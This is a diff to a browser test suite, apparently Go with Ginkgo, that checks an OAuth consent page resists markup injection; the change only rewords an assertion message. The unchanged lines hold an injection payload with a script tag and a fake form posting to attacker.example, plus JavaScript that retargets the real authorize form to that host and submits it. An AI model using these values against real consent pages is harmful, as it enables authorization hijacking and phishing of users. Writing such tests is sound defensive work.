@@ -147,7 +147,7 @@ var _ = Describe("An agent", Ordered, func() {
 
 	It("cannot inject a script or form into the consent page", func() {
 		must(page.Open(consent(`<script>document.title="no"</script><form action="https://attacker.example"><button>Allow</button></form>`, cursor)))
-		Expect(page.Get("button", "Allow").Count()).To(Equal(1), "a name is text")
+		Expect(page.Get("button", "Allow").Count()).To(Equal(1), "names are shown as text")
 		Expect(page.Problems()).To(BeEmpty())
 		_, err := chrome.Eval[any](page, `(() => { const form = document.querySelector("form[action='/oauth/authorize']"); form.action = "https://attacker.example/"; form.submit(); })()`)
 		must(err)
